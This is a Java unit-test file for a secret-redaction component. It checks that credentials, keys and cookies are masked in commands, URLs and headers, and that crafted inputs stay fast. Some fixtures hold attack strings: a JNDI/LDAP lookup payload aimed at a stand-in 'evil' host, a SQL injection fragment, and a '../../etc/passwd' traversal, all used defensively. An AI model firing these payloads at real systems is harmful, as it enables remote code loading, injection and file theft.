package whorl.agent.redact;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Secrets among other text: joined commands, paths, quotes, queries. */
class RedactionPlacesTest {
  private static final String SECRET = "q7Zk2mWx9Lb4";
  private static final String KEY =
      "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCq7Zk2mWx9Lb4aB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3";

  private final Redactor redactor = new Redactor(List.of());

  @ParameterizedTest
  @ValueSource(
      strings = {
        // A stray quote before it.
        "App it's here mysql -u root -pSECRET shop",
        "App \"half open curl -u joe:SECRET https://h/",
        // A command in quotes, as in a thread's name.
        "\"curl -ujoe:SECRET https://h/\" #12 daemon prio=5",
        "sh -c 'mysql -pSECRET shop'",
        // Path normalizes two slashes to one.
        "https:/joe:SECRET@db.example/x",
        "redis:/:SECRET@cache:6379/0",
        // Options that set a property.
        "-Dkey=SECRET",
        "-Dsid=SECRET",
        "-J-Dapi.key=SECRET",
        // After the sign of a query.
        "http://127.0.0.1:1/x.jar?root:SECRET@tcp(db:3306)/shop",
        // In a property's value.
        "-Dbackup=mysql -u root -pSECRET shop",
        "-Dbackup=sqlplus scott/SECRET@db",
        // Text of others after a header, or in it.
        "Cookie: a=SECRET; b=x | ldap://cn=admin:x@ldap.example/ | --secret x",
        "Cookie: a=x; b=y | ldap://cn=admin:x@ldap.example/ | --secret SECRET",
        "Set-Cookie: id=x; Path=/ rmi://u:x@host:1099/x mysql --password SECRET",
        "Cookie: id=1' or '1'='1; b=SECRET",
        "Cookie: a=x; b=y | jar:https://h/x.jar?access_token=SECRET!/a",
        "Cookie: id=1' or '1'='1 -- token=SECRET",
        "password: \"x | ldap://ldap.example/ | --secret SECRET",
        "<password>x ldap://ldap.example/ token=SECRET",
        // Control characters, and their replacement.
        "no answer\uFFFDjoe:SECRET@host.example",
        "no answer\u0000joe:SECRET@host.example",
        "mysql\uFFFD-u\uFFFDroot\uFFFD-pSECRET shop",
        // Colours.
        "\u001b[1mpassword\u001b[0m=SECRET",
        "\u001b[32mpassword\u001b[0m: \u001b[1mSECRET\u001b[0m",
        "\u001b[36mghp_aB3cD5eF7gH9iJ1kLSECRET\u001b[0m",
        // Not the first of its kind.
        "https://discord.com/api/webhooks/1/a https://discord.com/api/webhooks/2/SECRET",
        "https://hooks.slack.com/services/T/B/a https://discord.com/api/webhooks/2/SECRET",
      })
  void text_secretAmongOtherText_isMasked(String text) {
    String planted = text.replace("SECRET", SECRET);

    assertThat(redactor.text(planted)).doesNotContain(SECRET).contains("***");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/tmp/", "?x=%3D", "%20", ""})
  void text_privateKeyAfterASeparator_isMasked(String before) {
    assertThat(redactor.text(before + KEY)).isEqualTo(before + "***");
  }

  @ParameterizedTest
  @ValueSource(strings = {"key=/q7Zk2mW/9Lb4aB3cD5eF7", "AccountKey=/q7Zk2mW/9Lb4aB3cD5eF7"})
  void text_base64ThatBeginsLikeAPath_isMasked(String text) {
    assertThat(redactor.text(text)).isEqualTo(text.substring(0, text.indexOf('=') + 1) + "***");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "key=/etc/ssl/private/Server2Key",
        "signingKey=/opt/app/conf/jwt.key",
        "file:/opt/app/lib/shop-1.2.3.jar",
        "jar:file:/opt/app/lib/shop-1.2.3.jar!/BOOT-INF/classes",
        "codeSource=jar:file:/opt/app/shop.jar!/BOOT-INF/lib/log4j-api-2.24.1.jar!/",
        "{\"codeSource\":\"jar:nested:/opt/app7/shop.jar/!BOOT-INF/lib/h2-2.3.232.jar!/\"}",
        "codeSource=vfs:/content/shop1.war/WEB-INF/lib/h2-2.3.232.jar",
        "-Dsort.key=name",
        "it's the mysql server's \"port\" that is closed",
        "/opt/application/lib/x86/com/example/Shop2/Order",
        "jdbc:sqlite:/var/lib/shop/orders.db",
        "https:/h.example/a/b@2x.png",
      })
  void text_ordinaryAmongOtherText_isTheSame(String text) {
    assertThat(redactor.text(text)).isSameAs(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"+", "/"})
  void text_keyThatBeginsWithASign_isMasked(String sign) {
    String key = sign + "8fbmXUul7ww26VAoK39uhF7i+7Q1CGJYUhkNRoT";

    assertThat(redactor.text("the key " + key + " was used")).isEqualTo("the key *** was used");
  }

  @Test
  void text_codeWithALongRunOfCapitals_isMasked() {
    assertThat(redactor.text("?code=KQCRFGWplb6P&state=x")).isEqualTo("?code=***&state=x");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "joe:SEC",
        "https://joe:SEC",
        "jdbc:oracle:thin:scott/SEC",
        "AKIASEC",
        "key/SEC",
        "it was SEC",
      })
  void text_truncatedSecret_isMasked(String cut) {
    String text = "x ".repeat(200) + cut.replace("SEC", "q7Zk2mW") + "…";

    assertThat(redactor.text(text)).doesNotContain("q7Zk").startsWith("x x x").endsWith("***…");
  }

  @Test
  void text_secretWithoutItsBeginning_isMasked() {
    String text = "x".repeat(20) + "&a=" + "y ".repeat(200) + "…" + SECRET + "&b=shown";

    assertThat(redactor.text(text)).doesNotContain(SECRET).endsWith("…***&b=shown");
  }

  @ParameterizedTest
  @ValueSource(strings = {"…${jndi:ldap://x/a}", "…a ../../etc/passwd"})
  void text_attackAfterACut_isShown(String attack) {
    assertThat(redactor.text("x ".repeat(200) + attack))
        .endsWith(attack.substring(attack.indexOf(attack.contains("$") ? '$' : ' ')));
  }

  @ParameterizedTest
  @ValueSource(strings = {"loading…", "loading joe… wait"})
  void text_shortTextWithAnEllipsis_isTheSame(String text) {
    assertThat(redactor.text(text)).isSameAs(text);
  }

  @Test
  void text_attackInACookie_isShownAlone() {
    assertThat(redactor.text("Cookie: a=x; b=${jndi:ldap://evil/a}; c=" + SECRET))
        .contains("${jndi:ldap://evil/a}")
        .doesNotContain(SECRET);
    assertThat(redactor.text("Cookie: id=1' or '1'='1; c=" + SECRET))
        .contains("1' or '1'='1")
        .doesNotContain(SECRET);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"Cookie: ' or ' ", "Cookie: ../ ", "a… ", "\u001b[1m", "jar:http?token=x "})
  void text_madeToBeSlow_isFast(String repeated) {
    String text = repeated.repeat(8192 / repeated.length());

    assertTimeout(
        Duration.ofSeconds(2),
        () -> {
          for (int i = 0; i < 20; i++) {
            redactor.text(text);
          }
        });
  }

  @Test
  void text_ofOneValueMadeToBeSlow_isFast() {
    String text = "password=" + ")a}a".repeat(60_000);

    assertTimeout(Duration.ofSeconds(2), () -> redactor.text(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Authorization: Basic SECRET==",
        "Authorization: Bearer qzkmwxlbvcrt",
        "sent Bearer SECRET to",
        "token = SECRET",
        "password := SECRET",
        "password => SECRET",
        "userPassword:: SECRET",
        "x-api-key: SECRET",
        "Cookie: a=x; b=SECRET",
        "-----BEGIN RSA PRIVATE KEY-----\nSECRET x",
        "-----BEGIN PRIVATE KEY-----x SECRET -----END PRIVATE KEY-----",
        "-H \"Authorization: Bearer SECRET\"",
      })
  void arguments_takenApartByAShell_areMasked(String line) {
    List<String> arguments = List.of(line.replace("SECRET", SECRET).split(" "));

    assertThat(String.join(" ", redactor.arguments(arguments)))
        .doesNotContain(SECRET, "qzkmwxlbvcrt");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-----BEGIN CERTIFICATE----- MIIB -----END CERTIFICATE----- x",
        "token is shown",
        "keys: a b",
        "serve --port 80 code = 200",
        "sort key : name",
        "bearer of news",
      })
  void arguments_ordinary_areTheSame(String line) {
    List<String> arguments = List.of(line.split(" "));

    assertThat(redactor.arguments(arguments)).isEqualTo(arguments);
  }

  @Test
  void command_isMaskedWordByWord() {
    assertThat(redactor.command("com.example.Main --secret qzkm Cookie: a=x; b=y --port 80"))
        .startsWith("com.example.Main --secret *** Cookie: ***")
        .doesNotContain("qzkm", "b=y");
  }
}
